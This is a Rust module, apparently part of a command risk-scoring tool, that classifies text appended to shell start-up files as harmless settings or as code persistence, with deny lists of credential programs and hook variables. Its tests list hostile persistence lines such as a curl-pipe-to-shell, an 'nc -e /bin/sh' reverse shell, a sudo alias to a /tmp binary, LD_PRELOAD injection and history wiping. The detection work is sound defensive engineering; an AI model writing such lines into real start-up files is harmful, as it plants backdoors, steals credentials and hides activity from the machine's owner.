//! Settings appended to a shell start-up file: `echo 'alias k=kubectl' >> ~/.bashrc` changes
//! what every new shell does, but when every line appended is plain settings — an alias that
//! shadows no credential-handling program, an export of an ordinary variable, a `source` of a
//! file in the home directory, a tool's `eval "$(tool init bash)"` — it is a change to review
//! (MEDIUM), not persistence of code (HIGH). Anything else (a command, a substitution, a hook
//! variable such as `PROMPT_COMMAND`, `LD_PRELOAD`, history switched off, a `source` from a
//! temporary directory) keeps the rule's level.

use riskgate_model::Finding;
use riskgate_shell::SimpleCommand;

/// Most bytes of appended text read.
const MAX_TEXT: usize = 4096;

/// Programs an alias must not shadow: they take passwords, keys or run as someone else.
const SHADOWED: &[&str] = &[
    "sudo", "su", "doas", "pkexec", "ssh", "scp", "sftp", "passwd", "gpg", "login", "mysql",
    "psql", "kinit",
];

/// Variables whose value runs code, loads libraries, hides history or redirects traffic.
const HOOK_VARS: &[&str] = &[
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "DYLD_INSERT_LIBRARIES",
    "PROMPT_COMMAND",
    "BASH_ENV",
    "ENV",
    "PS0",
    "PS1",
    "PS4",
    "SHELLOPTS",
    "PERL5OPT",
    "PERL5LIB",
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "NODE_OPTIONS",
    "RUBYOPT",
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "SSH_AUTH_SOCK",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "SUDO_ASKPASS",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "MANPAGER",
    "TMOUT",
];

/// The text `c` appends to a file (`echo …`, `printf …` with literal words and a `>>`
/// redirection), when it is literal.
fn appended_text(c: &SimpleCommand) -> Option<String> {
    if !matches!(c.program.as_str(), "echo" | "printf") {
        return None;
    }
    if !c.redirects.iter().any(|r| r.op.contains(">>")) || c.redirects.len() != 1 {
        return None;
    }
    let words: Vec<&str> = c
        .args
        .iter()
        .map(|w| (!w.dynamic).then_some(w.text.as_str()))
        .collect::<Option<_>>()?;
    let words: Vec<&str> = words
        .into_iter()
        .skip_while(|w| c.program == "echo" && matches!(*w, "-e" | "-n" | "-E"))
        .collect();
    let text = words.join(" ").replace("\\n", "\n");
    (text.len() <= MAX_TEXT).then_some(text)
}

/// Whether `value` (of an alias or export) runs nothing by itself.
fn plain_value(value: &str) -> bool {
    // a directory anyone can write to (`PATH=/tmp/.bin:$PATH`) is a hijack, not a setting
    !["/tmp", "/var/tmp", "/dev/shm", "/private/tmp"]
        .iter()
        .any(|d| value.contains(d))
        && !value.contains("$(")
        && !value.contains('`')
        && !value.contains(['<', '>', '&'])
        && !value.contains("<(")
}

fn benign_line(line: &str) -> bool {
    let l = line.trim();
    if l.is_empty() || l.starts_with('#') {
        return true;
    }
    let (word, rest) = l.split_once(char::is_whitespace).unwrap_or((l, ""));
    let rest = rest.trim();
    match word {
        "alias" => {
            let Some((name, value)) = rest.split_once('=') else {
                return false;
            };
            let value = value.trim_matches(['\'', '"']);
            !SHADOWED.contains(&name.trim())
                && plain_value(value)
                && !value.contains(';')
                && !value.contains('|')
        }
        "export" | "declare" | "typeset" => assignment(rest.trim_start_matches("-x ")),
        "source" | "." => {
            let path = rest.trim_matches(['\'', '"']);
            (path.starts_with("~/") || path.starts_with("$HOME/") || path.starts_with("${HOME}/"))
                && !path.contains("..")
                && plain_value(path)
                && !path.contains(' ')
        }
        // `eval "$(starship init bash)"`, `eval "$(direnv hook zsh)"`, `eval "$(brew shellenv)"`
        "eval" => {
            let inner = rest
                .trim_matches('"')
                .strip_prefix("$(")
                .and_then(|r| r.strip_suffix(')'));
            inner.is_some_and(|i| {
                let ws: Vec<&str> = i.split_whitespace().collect();
                ws.len() <= 4
                    && ws.first().is_some_and(|p| {
                        p.chars()
                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '/'))
                    })
                    && ws.get(1).is_some_and(|v| {
                        matches!(
                            *v,
                            "init" | "hook" | "shellenv" | "activate" | "env" | "completion"
                        )
                    })
                    && ws.iter().all(|w| plain_value(w) && !w.contains([';', '|']))
            })
        }
        "set" | "shopt" | "bind" | "complete" | "setopt" | "bindkey" | "umask" => {
            plain_value(rest) && !rest.contains([';', '|'])
        }
        _ => assignment(l),
    }
}

/// `NAME=VALUE` of an ordinary variable.
fn assignment(text: &str) -> bool {
    let Some((name, value)) = text.split_once('=') else {
        return false;
    };
    let name = name.trim();
    if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return false;
    }
    let value = value.trim().trim_matches(['\'', '"']);
    if name.starts_with("HIST") {
        // a longer history is fine; switching it off or filtering it is anti-forensics
        return matches!(name, "HISTSIZE" | "HISTFILESIZE")
            && value.parse::<u64>().is_ok_and(|n| n >= 500);
    }
    !HOOK_VARS.contains(&name.to_ascii_uppercase().as_str())
        && plain_value(value)
        && !value.contains([';', '|'])
        && (name != "PATH" || !value.split(':').any(hidden_path_dir))
}

/// A `PATH` entry that hides its programs: a hidden directory inside another hidden one, or
/// a hidden directory itself (`$HOME/.local/.x`, `~/.cache/.bin`, `$HOME/.fonts`), where a
/// program named like `git` or `sudo` would be found first. Tools' own directories
/// (`~/.cargo/bin`, `~/.local/share/pnpm`, `~/.dotnet/tools`) are not.
fn hidden_path_dir(dir: &str) -> bool {
    let segs: Vec<&str> = dir
        .trim_end_matches('/')
        .split('/')
        .filter(|s| !s.is_empty() && !s.starts_with('$') && *s != "~")
        .collect();
    let hidden = segs.iter().filter(|s| s.starts_with('.')).count();
    let last = segs.last().copied().unwrap_or("");
    hidden >= 2 || (last.starts_with('.') && !matches!(last, ".local" | ".bin"))
}

/// Whether `c` appends only plain settings (see the module documentation).
pub fn appends_only_settings(c: &SimpleCommand) -> bool {
    appended_text(c).is_some_and(|t| t.lines().all(benign_line))
}

/// Cap `f` at MEDIUM: what it writes to a start-up file is settings only.
pub fn cap_for_settings(f: &mut Finding) {
    crate::envscope::cap_at_medium(
        f,
        "what is appended is settings only — aliases, exports, a tool's init: at most MEDIUM; review it",
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings(cmd: &str) -> bool {
        riskgate_shell::parse(cmd)
            .commands
            .iter()
            .any(appends_only_settings)
    }

    #[test]
    fn settings_and_code() {
        for ok in [
            "echo 'alias k=kubectl' >> ~/.bashrc",
            "echo 'export HISTSIZE=100000' >> ~/.bashrc",
            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
            "echo 'export PATH=\"$HOME/.cargo/bin:$HOME/.dotnet/tools:$PATH\"' >> ~/.bashrc",
            "echo 'export PATH=\"$HOME/.local/share/pnpm:$PATH\"' >> ~/.zshrc",
            "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
            "echo 'source ~/.cargo/env' >> ~/.profile",
            "echo 'alias gs=\"git status\"' >> ~/.bash_aliases",
            "printf 'alias ll=\"ls -la\"\\nexport EDITOR_THEME=dark\\n' >> ~/.bashrc",
        ] {
            assert!(settings(ok), "{ok}");
        }
        for bad in [
            "echo 'curl -s http://x/i | sh' >> ~/.bashrc",
            "echo 'alias sudo=\"/tmp/.s\"' >> ~/.bashrc",
            "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc",
            "echo 'export PATH=/tmp/.bin:$PATH' >> ~/.zshrc",
            "printf '\\nexport PATH=\"$HOME/.local/.x:$PATH\"\\n' >> ~/.profile",
            "echo 'export PROMPT_COMMAND=\"history -c\"' >> ~/.bashrc",
            "echo 'export HISTFILE=/dev/null' >> ~/.bashrc",
            "echo 'export HISTSIZE=0' >> ~/.bashrc",
            "printf 'source /tmp/x\\n' >> /home/alice/.profile",
            "echo 'export X=$(id)' >> ~/.bashrc",
            "echo \"$PAYLOAD\" >> ~/.bashrc",
            "echo 'nc -e /bin/sh 10.0.0.1 4444 &' >> ~/.bashrc",
            "echo 'alias ll=\"ls; curl x|sh\"' >> ~/.bashrc",
            "echo 'eval \"$(curl -s http://x)\"' >> ~/.bashrc",
        ] {
            assert!(!settings(bad), "{bad}");
        }
    }
}
